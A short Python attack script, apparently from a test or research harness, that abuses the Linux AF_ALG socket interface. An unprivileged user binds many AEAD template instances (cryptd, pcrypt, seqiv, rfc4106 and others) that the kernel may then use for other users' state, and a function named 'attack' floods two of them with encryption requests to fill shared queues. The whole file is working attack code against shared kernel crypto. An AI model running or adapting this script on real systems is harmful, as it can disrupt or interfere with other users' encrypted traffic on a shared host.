# SPDX-License-Identifier: GPL-2.0
"""Algorithm instances that any user can create, and load on the queues that they share.

When a name is bound, the kernel creates the instance and keeps it. From then on the kernel may use
it for another user's state, as an instance has a higher priority than its parts.
"""
import os
import socket
import struct
import threading
import time

SOL_ALG = 279
ALG_SET_KEY, ALG_SET_AEAD_AUTHSIZE = 1, 5
ALG_SET_IV, ALG_SET_OP, ALG_SET_AEAD_ASSOCLEN = 2, 3, 4

# In this order, since later names are built from earlier ones
NAMES = (
    "rfc4106(gcm(aes))", "seqiv(rfc4106(gcm(aes)))", "cryptd(rfc4106-gcm-aesni)",
    "cryptd(rfc4106-gcm-aesni-avx)", "cryptd(rfc4106(gcm(aes)))",
    "seqiv(cryptd(rfc4106-gcm-aesni-avx))", "pcrypt(seqiv(rfc4106-gcm-aesni-avx))",
    "pcrypt(seqiv(rfc4106-gcm-aesni))", "pcrypt(seqiv(rfc4106(gcm(aes))))",
    "pcrypt(rfc4106(gcm(aes)))", "pcrypt(rfc4106-gcm-aesni-avx)", "seqiv(pcrypt(rfc4106(gcm(aes))))",
    "echainiv(authenc(hmac(sha256),cbc(aes)))", "pcrypt(echainiv(authenc(hmac(sha256),cbc(aes))))",
    "cryptd(authenc(hmac(sha256),cbc(aes)))", "seqiv(rfc7539esp(chacha20,poly1305))",
    "pcrypt(seqiv(rfc7539esp(chacha20,poly1305)))", "cryptd(gcm(aes))", "pcrypt(gcm(aes))",
    "rfc4543(gcm(aes))", "seqiv(rfc4543(gcm(aes)))",
)


def usable():
    """Before 6.3 cryptd altered its callers' requests; the kernel's own test warns about this."""
    release = tuple(int(part) for part in os.uname().release.split(".")[:2])
    return [name for name in NAMES if release >= (6, 3) or "cryptd" not in name]


def bound(name):
    """A socket of an AEAD, or None."""
    sock = socket.socket(38, socket.SOCK_SEQPACKET, 0)
    try:
        sock.bind(("aead", name))
    except OSError:
        sock.close()
        return None
    return sock


def load(sock, stop):
    """Encrypt until stopped, without waiting, so that queues fill."""
    try:
        sock.setsockopt(SOL_ALG, ALG_SET_KEY, bytes(20))
        sock.setsockopt(SOL_ALG, ALG_SET_AEAD_AUTHSIZE, None, 16)
        workers = [sock.accept()[0] for _ in range(8)]
    except OSError:
        return
    control = [(SOL_ALG, ALG_SET_OP, struct.pack("=I", 1)),
               (SOL_ALG, ALG_SET_IV, struct.pack("=I", 8) + bytes(8)),
               (SOL_ALG, ALG_SET_AEAD_ASSOCLEN, struct.pack("=I", 16))]
    while not stop.is_set():
        for worker in workers:
            try:
                worker.sendmsg([bytes(4096)], control)
                worker.recv(8192)
            except OSError:
                pass


def attack(_):
    """Bind all names repeatedly; load two of them."""
    made = {name: bound(name) for name in usable() * 2}
    print(f"instances {sum(bool(sock) for sock in made.values())} of {len(made)}", flush=True)
    for name, sock in made.items():
        if not sock:
            print(f"not made: {name}", flush=True)
    print("ready", flush=True)
    stop = threading.Event()
    for name in ("cryptd(rfc4106-gcm-aesni-avx)", "pcrypt(rfc4106(gcm(aes)))"):
        if made.get(name) and os.environ.get("AF_ALG_LOAD", "1") == "1":
            threading.Thread(target=load, args=(made[name], stop), daemon=True).start()
    while True:
        time.sleep(60)
